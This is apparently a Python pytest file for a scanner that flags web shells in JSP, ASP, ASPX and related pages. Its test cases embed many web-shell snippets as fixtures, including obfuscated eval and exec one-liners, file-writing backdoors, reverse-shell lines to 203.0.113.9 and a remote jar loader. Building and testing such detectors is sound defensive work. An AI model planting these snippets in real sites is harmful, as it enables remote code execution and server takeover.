from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.base import Content
from pratique.content.identify import identify
from pratique.content.mark import Mark
from pratique.content.script.analysis import ANALYSER
from pratique.model import Gap

RUNS = "page-runs-request"
RUNTIME = ",".join(str(ord(c)) for c in "java.lang.Runtime")


def marks(text, name):
    held = text if isinstance(text, bytes) else text.encode()
    content = Content(held, f"/srv/www/{name}", identify(held[:4096], name))
    return [one for one in ANALYSER.find(content) if isinstance(one, Mark)]


def seen(text, name):
    return {one.mark for one in marks(text, name) if one.confidence >= 0.7}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ("a.jsp", '<% String c = request.getParameter("c"); new ProcessBuilder("sh", c); %>'),
        (
            "a.jsp",
            (
                "<%!class U extends ClassLoader{Class g(byte[] b){return "
                "super.defineClass(b,0,9);}}%>"
                "<% new U().g(c.doFinal(d.decode(request.getReader().readLine()))); %>"
            ),
        ),
        (
            "a.jsp",
            (
                f"<% Class r = Class.forName(new String(new byte[]{{{RUNTIME}}}));"
                ' r.getMethod("ex" + "ec").invoke(o, request.getParameter("c")); %>'
            ),
        ),
        ("a.jsp", '<% m.getEngineByName("js").eval(request.getParameter("c")); %>'),
        ("a.jsp", r'<% \u0052untime.getRuntime().ex\u0065c(request.getParameter("c")); %>'),
        ("a.jsp", '<% Runtime/**/.getRuntime().exec(request . getParameter("c")); %>'),
        (
            "a.jspx",
            (
                "<jsp:root><jsp:scriptlet>Runtime.getRuntime().ex<![CDATA[ec(request.get]]>"
                'Parameter("c"));</jsp:scriptlet></jsp:root>'
            ),
        ),
        (
            "a.jspx",
            (
                "<jsp:root><jsp:scriptlet>Runtime.getRuntime().&#x65;xec("
                'request.getParameter("c"));</jsp:scriptlet></jsp:root>'
            ),
        ),
        (
            "a.jsp",
            (
                '<% Process p = Runtime.getRuntime().exec("/bin/sh"); OutputStream o ='
                ' p.getOutputStream(); o.write(request.getParameter("c").getBytes()); %>'
            ),
        ),
        (
            "a.java",
            (
                "class A { void f(HttpServletRequest req) {"
                ' Runtime.getRuntime().exec(req.getParameter("c")); } }'
            ),
        ),
        ("a.asp", '<%eval request("x")%>'),
        ("a.asp", '<%If Request("a")<>"" Then Execute(Request("a"))%>'),
        ("a.asp", '<% a = Request("x")\nb = a\nExecuteGlobal b %>'),
        ("a.asp", '<% Set s = CreateObject("WScr" & "ipt.Shell")\ns.Exec(Request.Form("c")) %>'),
        (
            "a.asp",
            (
                '<object runat=server id=o classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">'
                '</object><% x = o.exec(request("c")) %>'
            ),
        ),
        ("a.asp", '<% Execute(Chr(101) & "val(request(""x""))") %>'),
        ("a.asp", '<% Execute(StrReverse(")""x""(tseuqer lave")) %>'),
        ("a.asp", '<% eval(eval("req" & "uest")("x")) %>'),
        ("a.asp", '<script language=vbs runat=server>eval(request("x"))</script>'),
        (
            "a.asp",
            (
                '<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var P = Request.form("z");'
                ' var W = {"E" : eval}; W.E(P+"");</SCRIPT>'
            ),
        ),
        ("a.asp", '<%@codepage=65000%><%r+k-es+k-p = 1: e+k-val r+k-equest("x")%>'),
        ("a.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
        ("a.aspx", '<%@ Page Language="C#"%><% Process.Start("cmd", "/c " + Request["c"]); %>'),
        (
            "a.aspx",
            (
                '<%@ Page Language="C#"%><script runat="server">void P() { ProcessStartInfo i ='
                ' new ProcessStartInfo(); i.Arguments = "/c " + t.Text; '
                "Process.Start(i); }</script>"
            ),
        ),
        (
            "a.ashx",
            (
                '<%@ WebHandler Language="C#" Class="H" %>\nclass H { void P(HttpContext c) {'
                ' Assembly.Load(Convert.FromBase64String(c.Request["p"])); } }'
            ),
        ),
        ("a.gif", 'GIF89a<%eval request("x")%>'),
    ],
)
def test_sees_what_runs_a_request(name, text):
    assert RUNS in seen(text, name)


@pytest.mark.parametrize(
    ("mark", "name", "text"),
    [
        (
            "page-writes-request",
            "a.jsp",
            (
                '<% new FileOutputStream(application.getRealPath("/") + request.getParameter("f"))'
                '.write(request.getParameter("t").getBytes()); %>'
            ),
        ),
        (
            "page-writes-request",
            "a.jsp",
            (
                "<% FileOutputStream os = new "
                'FileOutputStream(request.getParameter("f")); InputStream'
                " is = request.getInputStream(); byte[] b = new byte[9]; is.read(b); "
                "os.write(b); %>"
            ),
        ),
        (
            "page-writes-request",
            "a.asp",
            '<% Set f = o.OpenTextFile(Server.MapPath(Request("p")), 8)\nf.Write Request("t") %>',
        ),
        (
            "page-manages-files",
            "a.jsp",
            (
                '<% File f = new File(request.getParameter("d")); f.listFiles(); f.delete();'
                " f.renameTo(g); %>"
            ),
        ),
        (
            "page-queries-request",
            "a.jsp",
            (
                '<% Connection c = DriverManager.getConnection(request.getParameter("u"));'
                ' c.createStatement().executeQuery(request.getParameter("q")); %>'
            ),
        ),
        (
            "script-connects-back",
            "a.jsp",
            (
                '<% Socket s = new Socket("203.0.113.9", 99); Process p ='
                ' Runtime.getRuntime().exec("/bin/sh"); join(p, s.getOutputStream()); %>'
            ),
        ),
        (
            "script-connects-back",
            "a.jsp",
            '<% Runtime.getRuntime().exec("bash -i >& /dev/tcp/203.0.113.9/99 0>&1"); %>',
        ),
        (
            "script-runs-decoded",
            "a.asp",
            (
                '<% Execute(D("%119%136%115%126%50%132%119%131")):Function D(S):S=Split(S,"%")'
                ":For I=1 To 8:D=D&Chr(S(I)-18):Next:End Function %>"
            ),
        ),
        (
            "script-runs-remote",
            "a.asp",
            (
                '<% Set x = CreateObject("Microsoft.XMLHTTP")\nSet g = '
                'CreateObject("ADODB.Stream")\n'
                'g.Write(x.responseBody)\ng.SaveToFile Server.MapPath("x.asp"), 2 %>'
            ),
        ),
        (
            "script-runs-decoded",
            "a.aspx",
            '<%@ Page Language="C#"%><% m = VirtualAlloc(0, 9, 1, 64); CreateThread(0, m); %>',
        ),
        (
            "script-runs-remote",
            "a.jsp",
            '<% new URLClassLoader(new URL[]{new URL("http://203.0.113.9/a.jar")}); %>',
        ),
        ("page-runs-request", "a.asp", '<% dim a(3)\na(0) = Request("x")\nExecute(a(0)) %>'),
        (
            "page-writes-request",
            "a.asp",
            (
                '<% Set t = f.CreateTextFile(Server.MapPath(Request.ServerVariables("SC'
                'RIPT_NAME")))\n'
                't.Write Request("c") %>'
            ),
        ),
        (
            "page-writes-request",
            "a.ashx",
            (
                '<%@ WebHandler Language="C#" Class="H"%>\npublic class H { void Proces'
                "sRequest(C c)"
                ' { File.WriteAllText(c.Request["f"], c.Request["d"]); } }'
            ),
        ),
        (
            "script-hides-name",
            "a.asp",
            (
                '<% Execute "x = Acc" & q & "ount"\nExecute "y = Fol" & q & "der"\n'
                'Execute "z = Na" & q & "me" %>'
            ),
        ),
        (
            "script-runs-decoded",
            "a.asp",
            (
                '<% k = "' + "zx" * 120 + '"\nIf Session(1) = 0 Then Session(1) = turned(k)\n'
                "k = Session(1)\nExecute k\nFunction turned(a)\nFor i = 1 To Len(a)\n"
                "turned = Mid(a, i, 1) & turned\nNext\nEnd Function %>"
            ),
        ),
        (
            "script-hides-name",
            "a.asp",
            (
                "<script language=jscript runat=server>var t = {'E': eval};\n"
                "var s = 'a'; t.E(s + '');</script>"
            ),
        ),
        (
            "page-runs-request",
            "a.aspx",
            (
                '<%@ Page Language="C#"%><% var p = new Process(); p.StartInfo.FileName = "cmd";'
                'p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>'
            ),
        ),
        (
            "page-runs-request",
            "a.aspx",
            '<%@ Page Language="C#"%><% System.Windows.Markup.XamlReader.Parse(Request["x"]); %>',
        ),
        (
            "page-runs-request",
            "a.aspx",
            (
                '<%@ Page Language="C#"%><% new BinaryFormatter().Deserialize('
                'new MemoryStream(Convert.FromBase64String(Request["o"]))); %>'
            ),
        ),
        (
            "page-runs-request",
            "a.cshtml",
            '@{ var p = Process.Start("cmd", "/c " + Request["c"]); }',
        ),
        (
            "page-runs-request",
            "a.jsp",
            (
                '${"".getClass().forName("javax.script.ScriptEngineManager").newInstanc'
                "e().eval(param.x)}"
            ),
        ),
        (
            "page-runs-request",
            "a.jsp",
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')}",
        ),
        (
            "page-runs-request",
            "a.jsp",
            (
                '<% String[] a = {"sh", "-c", ""}; a[2] = request.getParameter("c");'
                "Runtime.getRuntime().exec(a); %>"
            ),
        ),
        (
            "page-runs-request",
            "a.jsp",
            (
                '<% Constructor c = Class.forName("java.lang.ProcessImpl").getDeclaredC'
                "onstructors()[0];"
                'c.newInstance(request.getParameter("c").getBytes(), null); %>'
            ),
        ),
        (
            "script-runs-decoded",
            "a.jsp",
            (
                '<% byte[] b = Base64.getDecoder().decode("yv66vgAAADQAAAAA");'
                'Method m = ClassLoader.class.getDeclaredMethod("defineClass"); m.invoke(l, b); %>'
            ),
        ),
        ("page-runs-request", "a.jsp", '<% ognl.Ognl.getValue(request.getParameter("x"), o); %>'),
    ],
)
def test_sees_what_opens_the_machine(mark, name, text):
    assert mark in seen(text, name)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.jsp", '<% out.print(request.getParameter("a")); %>'),
        (
            "a.jsp",
            (
                '<% int n = Integer.parseInt(request.getParameter("n"));'
                ' Runtime.getRuntime().exec("ls " + n); %>'
            ),
        ),
        ("a.jsp", '<% if ("x".equals(request.getParameter("a"))) r.exec("uptime"); %>'),
        ("a.jsp", '<% s.executeQuery("select a where c = " + request.getParameter("c")); %>'),
        ("a.jsp", '<% f.saveToFile(request.getParameter("t"), root + "/footer.html"); %>'),
        ("a.asp", '<% conn.Execute("delete from a where id=" & Request("id")) %>'),
        ("a.asp", '<% Execute("update a set b=1 where id=" & Request("id")) %>'),
        ("a.asp", '<% rs.Open "select * from a where b=" & Request("b"), conn, 1, 1 %>'),
        ("a.asp", '<% n = CLng(Request("n"))\nExecute("x=" & n) %>'),
        (
            "a.asp",
            (
                '<% Set f = o.CreateTextFile(Server.MapPath("h/" & Request("id") & ".html"))\n'
                'f.Write Request("t") %>'
            ),
        ),
        (
            "a.asp",
            (
                '<% Set f = o.CreateTextFile(Server.MapPath("config.asp"), True)\n'
                'f.Write "Const n = """\nf.Write Request("n")\nf.Write """ end" %>'
            ),
        ),
        ("a.asp", '<% Set s = Server.CreateObject("ADOD" & "B.Stream") %>'),
        ("a.asp", "<script>eval(location.hash)</script>"),
        ("a.aspx", '<%@ Page Language="C#"%><% l.Text = Request["x"]; Process.GetById(1); %>'),
        ("a.html", '<p>In ASP, &lt;%eval request("x")%&gt; runs code.</p>'),
        ("a.js", "var t = _.template('<%= eval(a) %>');"),
        # An installer that writes its own pages into the folder that it is told.
        (
            "a.asp",
            (
                '<% Call Save("<" & "% n = 1 %" & ">", Request("dir") & "lock/done.txt")\n'
                "Function Save(text, name)\ns.WriteText text\ns.SaveToFile Server.MapPa"
                "th(name), 2\n"
                "End Function %>"
            ),
        ),
        ("a.asp", '<% m = Mid(t, 2, 1)\nExecute("r = r " & m & " l") %>'),
        ("a.asp", '<% For i = 1 To 3\nExecute "a" & i & "b = 1"\nNext %>'),
        ("a.jsp", "${fn:escapeXml(param.invoked)} ${item.class.simpleName}"),
        ("a.jsp", '<% String[] a = {"sh"}; b[2] = request.getParameter("c"); Runtime.exec(a); %>'),
    ],
)
def test_leaves_alone(name, text):
    assert seen(text, name) == set()


def test_says_where_and_why():
    (mark,) = marks('<p>\n\n<%eval request("x")%>', "a.asp")
    assert (mark.line, mark.quote) == (3, 'eval request("x")')
    assert 'request("x")' in mark.why


def test_a_long_page_is_told():
    content = Content(b"<% " + b"a=1\n" * 600_000 + b"eval x %>", "/a.asp", "asp")
    assert any(isinstance(one, Gap) for one in ANALYSER.find(content))


def test_a_long_list_of_texts_is_no_page():
    held = b"Name: unattended-upgrades/process\nDescription: when to execute <%\n" * 20_000
    assert not list(ANALYSER.find(Content(held, "/var/cache/debconf/templates.dat", "text")))


@given(st.binary(max_size=300), st.sampled_from(["a.jsp", "a.asp", "a.aspx", "a.jspx"]))
def test_any_bytes(inside, name):
    marks(b'<% eval(request("x")) ' + inside, name)


def test_reasons_spell_names_as_the_file_does():
    (mark,) = marks('<% Runtime.getRuntime().exec(request.getParameter("c")); %>', "a.jsp")
    assert 'request.getParameter("c")' in mark.why
    assert "Runtime.getRuntime().exec" in mark.why
